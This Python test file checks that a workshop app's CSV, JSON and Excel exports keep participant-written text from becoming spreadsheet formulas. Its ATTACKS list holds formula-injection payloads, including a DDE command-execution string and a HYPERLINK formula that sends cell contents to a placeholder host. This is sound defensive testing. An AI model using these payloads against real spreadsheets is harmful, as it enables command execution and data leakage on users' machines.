"""What somebody wrote never runs in anybody's spreadsheet, and stays what it was."""

import csv
import io
import json
import re

import openpyxl
import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.exports import house
from tests.exports.house import Words
from workshop.activities import Column, Table
from workshop.exports import csv_files, json_file, xlsx
from workshop.protecting.formulas import harmless

RUNS = "=+-@\t\r\0"
ATTACKS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    'a;=1+1;"b',
    'a";=1+1',
    "first line\n=1+1",
    "first line\r\n=1+1",
    "\u200b=1+1",
    "＝1+1",
    '"=1+1"',
    "a\n\n\n+1",
]
WRITTEN = st.text(alphabet=st.one_of(st.sampled_from("=+-@\t\r\n;,\"' 1a"), st.characters(exclude_categories=["Cs"])))
COLUMNS = [
    Column("id", "string", "Who."),
    Column("text", "string", "Words."),
    Column("number", "integer", "A true number."),
]


def table(*texts: str) -> Table:
    return Table("said", "Said", COLUMNS, [(f"x{at}", text, -at) for at, text in enumerate(texts)])


def as_csv(made: Table) -> str:
    return b"".join(csv_files.chunks(made)).decode("utf-8-sig")


def cells(text: str, separator: str) -> list[str]:
    """What a spreadsheet finds that cuts at this separator."""
    found = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
    return [cell for row in found for cell in row]


def is_formula(cell: str) -> bool:
    return cell.lstrip(' "\n')[:1] in tuple(RUNS) and not re.fullmatch(r"-\d+", cell)


@pytest.mark.shows("S25")
@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_stays_text_wherever_a_spreadsheet_cuts(attack: str, separator: str) -> None:
    found = cells(as_csv(table(attack, "quiet")), separator)
    assert [cell for cell in found if is_formula(cell)] == []


@pytest.mark.shows("S25")
@given(st.lists(WRITTEN, max_size=5))
def test_no_text_becomes_a_formula(texts: list[str]) -> None:
    file = as_csv(table(*texts))
    assert [cell for cell in cells(file, ",") if is_formula(cell)] == []
    assert [cell for cell in cells(file, ";") if is_formula(cell)] == []


@given(st.lists(WRITTEN, max_size=5))
def test_a_csv_file_comes_back_as_it_was_written(texts: list[str]) -> None:
    """One line a row whatever is in it; without our marks every text is the text."""
    back = list(csv.DictReader(io.StringIO(as_csv(table(*texts)), newline="")))
    assert [row["text"] for row in back] == [harmless(text) for text in texts]
    assert [unmarked(row["text"], text) for row, text in zip(back, texts, strict=True)] == texts
    assert [int(row["number"]) for row in back] == [-at for at in range(len(texts))]


def unmarked(marked: str, text: str) -> str:
    """`marked` without the apostrophes that `text` has not."""
    rest = iter(marked)
    kept = [next(each for each in rest if each == letter or each != "'") for letter in text]
    return "".join(kept) + "".join(each for each in rest if each != "'")


def test_true_numbers_stay_numbers() -> None:
    assert as_csv(table("a", "b")).splitlines()[2] == "x1,b,-1"


@pytest.mark.shows("S25")
@settings(deadline=None)
@given(st.lists(WRITTEN, max_size=5))
def test_json_holds_every_text_as_it_was(texts: list[str]) -> None:
    found = json.loads(b"".join(json_file.chunks([table(*texts)])))
    assert [row["text"] for row in found["tables"][0]["rows"]] == texts


@pytest.mark.shows("S25")
@settings(deadline=None, max_examples=30)
@given(texts=st.lists(WRITTEN, max_size=5))
def test_a_workbook_has_typed_cells_and_no_formula(app_words: Flask, texts: list[str]) -> None:
    sheet = workbook(app_words, table(*texts))["said"]
    for number, text in enumerate(texts):
        _id, said, count = sheet[number + 2]
        assert said.data_type in ("s", "n" if not xlsx.clean(text) else "s")
        assert (said.value or "") == xlsx.clean(text)
        assert (count.data_type, count.value) == ("n", -number)


@pytest.mark.shows("S29")
def test_a_text_too_long_for_a_cell_says_where_the_whole_is(app_words: Flask) -> None:
    """Cut silently, 32,768 characters would be 32,767."""
    for text in ("a" * 32_768, "🙂" * 20_000):
        sheet = workbook(app_words, table("short", text))["said"]
        assert sheet["B3"].value == "Too long for a cell. The whole text is in data/said.csv, row 2."
    fits = workbook(app_words, table("a" * 32_767))["said"]
    assert fits["B2"].value == "a" * 32_767


def workbook(app: Flask, made: Table) -> openpyxl.Workbook:
    file = io.BytesIO()
    with app.app_context():
        xlsx.write([made], file)
    return openpyxl.load_workbook(file)


@pytest.fixture(scope="module")
def app_words(house_app: Flask) -> Flask:
    """The app, for the few words of its own that a workbook holds."""
    return house_app


@pytest.mark.shows("S25")
def test_attacks_sleep_in_the_pack(house_app: Flask, riverside: str) -> None:
    """From the room to the receiver's spreadsheet: story, card, ballot, codebook."""
    said = [Words(attack, at=at) for attack in ATTACKS for at in ("story", "cards")]
    room = house.room(house_app, riverside, said)
    house.close(room)
    packed = house.pack(room)
    inside = house.files(packed)
    files = {name: data.decode("utf-8-sig") for name, data in inside.items() if name.endswith(".csv")}
    assert files["codebook.csv"].count("SUM(A1)") == 1  # the card stands on the ballot
    assert [(name, cell) for name, text in files.items() for cell in cells(text, ",") if is_formula(cell)] == []
    book = openpyxl.load_workbook(io.BytesIO(inside["workshop.xlsx"]))
    assert {cell.data_type for sheet in book for row in sheet for cell in row} <= {"s", "n", "b"}
    raw = json.loads(inside["workshop.json"])
    told = next(each for each in raw["tables"] if each["name"] == "contributions")
    assert {row["text"] for row in told["rows"]} == set(ATTACKS)
